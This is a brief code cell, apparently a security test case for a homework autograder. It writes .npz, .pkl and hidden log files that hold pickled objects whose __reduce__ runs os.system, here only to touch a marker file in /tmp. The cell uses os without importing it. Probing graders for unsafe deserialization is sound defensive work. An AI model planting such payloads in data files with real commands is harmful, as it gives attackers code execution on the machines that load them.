# C05, through files · Hands in .npz and .npy files with pickled objects, over the homework's data.

# %% [folder] trick
import pickle
import numpy as np
class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/chalkgrad-was-here-npz",)
(folder / "data").mkdir()
np.savez(folder / "data" / "clinical.npz", X_train=np.array([Command()], dtype=object))
(folder / "hw1a.pkl").write_bytes(pickle.dumps(Command()))
(folder / ".OTTER_LOG").write_bytes(pickle.dumps(Command()))
